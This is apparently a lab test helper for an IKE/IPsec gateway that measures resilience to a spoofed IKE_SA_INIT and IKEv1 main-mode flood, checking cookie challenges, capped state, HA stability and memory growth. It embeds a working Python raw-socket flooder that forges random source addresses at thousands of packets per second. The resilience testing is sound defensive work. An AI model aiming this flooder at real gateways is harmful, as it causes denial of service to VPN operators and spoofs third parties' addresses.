/**
 * The spoofed first-message flood of security issue #11 against the HA lab's cloud gateway
 * (ike-flood-lab.ts), for IKEv2 (IKE_SA_INIT) and IKEv1 (main mode message 1). Used by
 * ike-flood.test.ts and ike-flood-v1.test.ts.
 *
 * From the attacker's namespace a raw-socket sender (IP_HDRINCL) sends a well-formed first message
 * at `rate`/s for `seconds`, each from a random source in 198.18.64.0/18 (16,384 addresses) with a
 * fresh SPIi (and, IKEv2, a fresh Ni). The router routes that net back towards the attacker, so the
 * gateway's answers cross the router too (iptables counts both directions there) and reach no host.
 *
 * During the flood a new branch gateway (twinsecd; it answers cookies) dials into the cloud's
 * `any` connection and rekeys its CHILD_SA and its IKE SA (IKEv1: quick mode rekey and phase 1
 * re-authentication); t1, the primary HA tunnel, rekeys its CHILD_SA; LAN pings run at 50/s, the
 * test asks `status` every 100 ms and samples the cloud twinsecd's RSS every 250 ms.
 */
import { writeFileSync } from 'node:fs';
import type { Test } from 'tap';
import type { ConnectionConfig } from '../../src/config/types.js';
import { call } from '../../src/control/client.js';
import { dhGenerate } from '../../src/ike/crypto/dh.js';
import { parseProposals, toWireProposal } from '../../src/ike/proposal.js';
import { p1Offer, p1SaPayload } from '../../src/ike/v1/p1-proposal.js';
import { ExchangeType, HeaderFlag, PayloadType, ProtocolId } from '../../src/ike/wire/constants.js';
import { encodeMessage } from '../../src/ike/wire/message.js';
import { ExchangeTypeV1, ISAKMP_VERSION } from '../../src/ike/wire/v1/constants.js';
import { encodeMessageV1 } from '../../src/ike/wire/v1/message.js';
import { ADDR, type IkeVersion, proposalsFor, quickStatus, startPing, waitHaReady } from './ha-lab.js';
import {
  branchConfig,
  cpuSeconds,
  FLOOD_ADDR,
  fmtMs,
  forwardCounters,
  haFlaps,
  haIkeSas,
  loadAverage,
  mib,
  percentiles,
  pollStatus,
  retainedHeap,
  rssBytes,
  startFloodLab,
} from './ike-flood-lab.js';
import { type Lab, waitFor } from './netns.js';
import { startTwinsec } from './twinsec.js';

/** What the IKE load tests require on the wire. */
export const MIN_RATE = 5000;

/**
 * Spoofed first-message sender: argv dst, first address of the source net, host bits, rate/s,
 * seconds, the message template (hex), how many of its last octets to randomise. SPIi (its first 8
 * octets) is new in each datagram. Prints {"sent": N, "seconds": S}.
 */
const FLOODER = `
import json, random, socket, struct, sys, time
dst, net, bits, rate, seconds = sys.argv[1], sys.argv[2], int(sys.argv[3]), float(sys.argv[4]), float(sys.argv[5])
tmpl, tail = bytes.fromhex(sys.argv[6]), int(sys.argv[7])
base = struct.unpack('!I', socket.inet_aton(net))[0]
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
s.setsockopt(socket.SOL_SOCKET, socket.SO_SNDBUF, 4 << 20)
dstb = socket.inet_aton(dst)
mid = tmpl[8:len(tmpl) - tail]
udp = struct.pack('!HHHH', 500, 500, 8 + len(tmpl), 0)
rnd = random.getrandbits
n = 0
start = time.time()
end = start + seconds
while True:
    now = time.time()
    if now >= end:
        break
    due = int((now - start) * rate) - n
    if due <= 0:
        time.sleep(0.0005)
        continue
    for _ in range(min(due, 2000)):
        src = struct.pack('!I', base + rnd(bits))
        # IP_HDRINCL: the kernel fills in the total length, the ID and the checksum.
        ip = struct.pack('!BBHHHBBH4s4s', 0x45, 0, 0, 0, 0, 64, 17, 0, src, dstb)
        tl = rnd(tail * 8).to_bytes(tail, 'big') if tail else b''
        s.sendto(ip + udp + rnd(64).to_bytes(8, 'big') + mid + tl, (dst, 0))
        n += 1
print(json.dumps({'sent': n, 'seconds': time.time() - start}))
`;

/** An IKE_SA_INIT request as an initiator sends its first one; the Nonce (32 octets) last. */
function initTemplateV2(): { bytes: Buffer; tail: number } {
  const bytes = encodeMessage({
    header: {
      spiI: Buffer.alloc(8, 0xaa),
      spiR: Buffer.alloc(8),
      version: 0x20,
      exchange: ExchangeType.IKE_SA_INIT,
      flags: HeaderFlag.INITIATOR,
      messageId: 0,
    },
    payloads: [
      {
        type: PayloadType.SA,
        proposals: parseProposals(proposalsFor(2).ike, 'ike').map((p, i) =>
          toWireProposal(p, i + 1, ProtocolId.IKE, Buffer.alloc(0)),
        ),
      },
      { type: PayloadType.KE, group: 31, data: dhGenerate(31).publicKey },
      { type: PayloadType.NONCE, data: Buffer.alloc(32, 0xbb) },
    ],
  });
  return { bytes, tail: 32 };
}

/** Main mode message 1: HDR, SA (the lab's IKEv1 proposal). */
function initTemplateV1(): { bytes: Buffer; tail: number } {
  const offer = p1Offer({
    mode: 'main',
    ike: { proposals: [proposalsFor(1).ike], lifetime: 3600 },
  } as ConnectionConfig);
  const bytes = encodeMessageV1({
    header: {
      spiI: Buffer.alloc(8, 0xaa),
      spiR: Buffer.alloc(8),
      version: ISAKMP_VERSION,
      exchange: ExchangeTypeV1.IDENTITY_PROTECTION,
      flags: 0,
      messageId: 0,
    },
    payloads: [p1SaPayload(offer)],
  });
  return { bytes, tail: 0 };
}

export interface FloodCase {
  version: IkeVersion;
  seconds: number;
  /** Requests per second the sender paces itself to. */
  rate: number;
  /** When the branch gateway starts, seconds into the flood. */
  branchAt: number;
  /** The branch's CHILD_SA and IKE SA rekey times (s). */
  espRekey: number;
  ikeRekey: number;
  /** t1's CHILD_SA rekey time (s): it must fall inside the flood. */
  t1EspRekey: number;
  /**
   * Why the new peer's checks are measured and printed but not asserted (a known limit of the
   * protocol: IKEv1 has no stateless challenge, see ike-flood-v1.test.ts).
   */
  branchMeasuredOnly?: string;
  /** Bound on the cloud twinsecd's RSS growth at its peak (bytes; V8 grows its heap under load). */
  rssBound: number;
  /** Bound on the heap retained after a full GC (what the flood leaves held: capped state). */
  heapBound?: number;
}

const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));

export async function floodCase(t: Test, lab: Lab, c: FloodCase): Promise<void> {
  const h = await startFloodLab(lab, { t1EspRekey: c.t1EspRekey, anyVersion: c.version });
  await waitHaReady(h);
  const cloudPid = h.cloud.proc.pid!;

  // Counters on the wire, in the router: requests from the spoofed net, answers to it.
  const ipt = (args: string[]) => lab.exec(h.ns.router, 'iptables', args);
  await ipt([
    '-I',
    'FORWARD',
    '1',
    '-s',
    FLOOD_ADDR.spoofNet,
    '-d',
    ADDR.cloudWan,
    '-p',
    'udp',
    '--dport',
    '500',
  ]);
  await ipt([
    '-I',
    'FORWARD',
    '2',
    '-s',
    ADDR.cloudWan,
    '-d',
    FLOOD_ADDR.spoofNet,
    '-p',
    'udp',
    '--sport',
    '500',
  ]);
  const script = `${lab.tempDir('flood')}/ike-flood.py`;
  writeFileSync(script, FLOODER);
  const tmpl = c.version === 2 ? initTemplateV2() : initTemplateV1();

  const branch = await startTwinsec(
    lab,
    h.peerNs,
    branchConfig({ version: c.version, espRekey: c.espRekey, ikeRekey: c.ikeRekey }),
  );
  const ikeDrops0 = (await quickStatus(h.cloud)).drops?.ike ?? {};
  const cpu0 = cpuSeconds(cloudPid);
  const load0 = loadAverage();
  const sas0 = haIkeSas(h);
  const heapStart = await retainedHeap(h.cloud);
  const rssStart = rssBytes(cloudPid);
  let rssPeak = rssStart;
  const rssTimer = setInterval(() => {
    rssPeak = Math.max(rssPeak, rssBytes(cloudPid));
  }, 250);
  const ping = startPing(lab, h.ns.onLan, ADDR.cloudLanHost, 20);
  const poll = pollStatus(h.cloud, 100);

  const floodStart = Date.now();
  const [net, bits] = FLOOD_ADDR.spoofNet.split('/') as [string, string];
  const sender = lab.exec(
    h.attackerNs,
    'python3',
    [
      script,
      ADDR.cloudWan,
      net,
      String(32 - Number(bits)),
      String(c.rate),
      String(c.seconds),
      tmpl.bytes.toString('hex'),
      String(tmpl.tail),
    ],
    { timeoutMs: (c.seconds + 30) * 1000 },
  );

  // A new branch gateway dials in during the flood (IKEv2: it must answer the cookie challenge):
  // the operator's `up b1` on its control socket, so the time measured is the negotiation's, not
  // node's start-up on a busy machine.
  await sleep(c.branchAt * 1000);
  let establishedMs = Number.POSITIVE_INFINITY;
  const upAt = Date.now();
  try {
    await call(branch.socket, 'up', { name: 'b1' }, { timeoutMs: 5000 });
    await waitFor(async () => (await quickStatus(branch)).connections.b1?.state === 'established', 15_000, {
      what: 'branch b1 established',
      intervalMs: 20,
    });
    const ev = branch.logEvents().find((e) => e.event === 'ike-state' && e.to === 'established');
    establishedMs = (ev?.at ?? Date.now()) - upAt;
  } catch (e) {
    if (c.branchMeasuredOnly) t.comment(`branch gateway: ${(e as Error).message} (${c.branchMeasuredOnly})`);
    else t.ok(false, `branch gateway: ${(e as Error).message}`);
  }

  // Near the end of the flood: traffic through the branch tunnel (rekeyed by then).
  await sleep(Math.max(0, floodStart + (c.seconds - 3) * 1000 - Date.now()));
  const branchPing = await lab.exec(
    h.peerNs,
    'ping',
    ['-n', '-c', '5', '-i', '0.2', '-W', '1', '-I', FLOOD_ADDR.branchLanHost, ADDR.cloudLanGw],
    { check: false },
  );
  const flood = JSON.parse((await sender).stdout.trim()) as { sent: number; seconds: number };
  const floodEnd = Date.now();
  // Let the gateway drain its socket before reading its counters and the wire's.
  await sleep(2000);
  const wire = await forwardCounters(lab, h.ns.router);
  clearInterval(rssTimer);
  const rssEnd = rssBytes(cloudPid);
  const cpu = cpuSeconds(cloudPid) - cpu0;
  rssPeak = Math.max(rssPeak, rssEnd);
  const lat = percentiles(await poll.stop());
  const heapEnd = await retainedHeap(h.cloud);
  const pings = await ping.stop();
  const ikeDrops = (await quickStatus(h.cloud)).drops?.ike ?? {};
  const grew = (k: string) => (ikeDrops[k] ?? 0) - (ikeDrops0[k] ?? 0);

  // The flood itself.
  const [requests = 0, answers = 0] = wire;
  const rate = requests / flood.seconds;
  const what = c.version === 2 ? 'IKE_SA_INIT' : 'main mode message 1';
  t.comment(
    `flood: sender ${flood.sent} ${what} in ${flood.seconds.toFixed(2)} s (${(flood.sent / flood.seconds).toFixed(0)}/s); ` +
      `router saw ${requests} requests (${rate.toFixed(0)}/s) and ${answers} answers to spoofed sources`,
  );
  t.comment(
    `cloud IKE drops during the flood: ${JSON.stringify(Object.fromEntries(Object.keys(ikeDrops).map((k) => [k, grew(k)])))}`,
  );
  t.comment(
    `cloud twinsecd CPU: ${cpu.toFixed(1)} s over the flood and 2 s after (${((cpu / (flood.seconds + 2)) * 100).toFixed(0)} % of a core); ` +
      `load average ${load0} before, ${loadAverage()} after`,
  );
  t.ok(rate >= MIN_RATE, `>= ${MIN_RATE} requests/s on the wire (${rate.toFixed(0)}/s)`);
  if (c.version === 2) {
    t.ok(
      grew('cookie_required') >= requests * 0.5,
      `answered with N(COOKIE): ${grew('cookie_required')} of ${requests} requests`,
    );
    t.ok(answers >= grew('cookie_required'), `the cookie answers went out (${answers} on the wire)`);
  } else {
    // No stateless answer in IKEv1: each message 1 costs an unproven SA, capped (the oldest goes).
    t.ok(grew('displaced') > 0, `unproven ISAKMP SAs displaced at the cap (${grew('displaced')})`);
  }

  // Log lines spoofed sources can cause are bounded (README: 10 a second per reason), whatever
  // the flood's rate: no line per datagram.
  const logLines = h.cloud.logEvents().filter((e) => e.at >= floodStart && e.at <= floodEnd).length;
  t.ok(logLines < 1000, `the cloud gateway logged ${logLines} lines during the flood`);

  // The HA tunnels.
  t.same(haFlaps(h, floodStart), [], 'no health change and no route switch on either gateway');
  t.same(haIkeSas(h), sas0, 'the HA IKE SAs are the same ones');
  t.ok(
    pings.received >= pings.transmitted * 0.98,
    `LAN pings kept flowing (${pings.received}/${pings.transmitted})`,
  );
  const t1Rekeys = h.onprem
    .logEvents()
    .filter(
      (e) =>
        e.event === 'child-down' &&
        e.connection === 't1' &&
        e.reason === 'rekeyed' &&
        e.at >= floodStart &&
        e.at <= floodEnd,
    ).length;
  t.ok(t1Rekeys >= 1, `t1 rekeyed its CHILD_SA during the flood (${t1Rekeys})`);

  // The new peer.
  // A check of the new peer: asserted, or (branchMeasuredOnly) printed with its outcome.
  const check = (ok: boolean, what: string) => {
    if (c.branchMeasuredOnly)
      t.comment(`${ok ? 'met' : 'NOT met'}: ${what} (measured only: ${c.branchMeasuredOnly})`);
    else t.ok(ok, what);
  };
  check(establishedMs <= 5000, `the branch gateway was established ${establishedMs} ms after 'up'`);
  {
    const ev = branch.logEvents().filter((e) => e.at >= upAt && e.at <= floodEnd);
    const cookies = ev.filter((e) => /asked for a cookie/.test(e.msg)).length;
    const childRekeys = ev.filter((e) => e.event === 'child-down' && e.reason === 'rekeyed').length;
    const established = ev.filter((e) => e.event === 'ike-state' && e.to === 'established');
    // IKEv2 rekeys the IKE SA (CREATE_CHILD_SA); IKEv1 re-authenticates (a new main mode).
    const ikeRekeys = established.filter((e, i) =>
      c.version === 2 ? /rekeyed IKE SA/.test(String(e.reason)) : i > 0,
    ).length;
    const failures = ev.filter((e) => e.event === 'ike-failure').map((e) => e.msg);
    t.comment(
      `branch: established ${establishedMs} ms after 'up'${c.version === 2 ? ` (cookie challenges answered: ${cookies})` : ''}, ` +
        `${childRekeys} CHILD_SA rekeys and ${ikeRekeys} IKE SA ${c.version === 2 ? 'rekeys' : 're-authentications'} during the flood, ` +
        `failures ${JSON.stringify(failures)}`,
    );
    if (c.version === 2) check(cookies >= 1, 'the branch was asked for a cookie and answered it');
    check(childRekeys >= 1, 'the branch CHILD_SA rekeyed during the flood');
    check(
      ikeRekeys >= 1,
      `the branch IKE SA ${c.version === 2 ? 'rekeyed' : 're-authenticated'} during the flood`,
    );
    check(
      branchPing.code === 0,
      `ping through the rekeyed branch tunnel: ${branchPing.stdout.trim().split('\n').at(-2)}`,
    );
  }

  // The responder's cost.
  t.comment(
    `cloud twinsecd RSS: start ${mib(rssStart)}, peak ${mib(rssPeak)}, end ${mib(rssEnd)} ` +
      `(growth ${mib(rssPeak - rssStart)} at the peak, ${mib(rssEnd - rssStart)} at the end)`,
  );
  t.ok(rssPeak - rssStart < c.rssBound, `RSS growth at the peak below ${mib(c.rssBound)}`);
  // What it keeps (heap after a full GC): the flood leaves nothing behind but bounded state.
  t.comment(`cloud twinsecd heap after a full GC: ${mib(heapStart)} before, ${mib(heapEnd)} after the flood`);
  const heapBound = c.heapBound ?? 16 * 1024 * 1024;
  t.ok(
    heapEnd - heapStart < heapBound,
    `retained heap growth ${mib(heapEnd - heapStart)} < ${mib(heapBound)}`,
  );
  t.comment(`status during the flood: ${fmtMs(lat)}`);
  // Two cores shared by the flood, both gateways, the branch and the test: the tail is scheduling
  // (and a busy machine's), the median is the control socket's own answer.
  t.ok(lat.p50 < 50, `status answers: ${fmtMs(lat)}`);
}
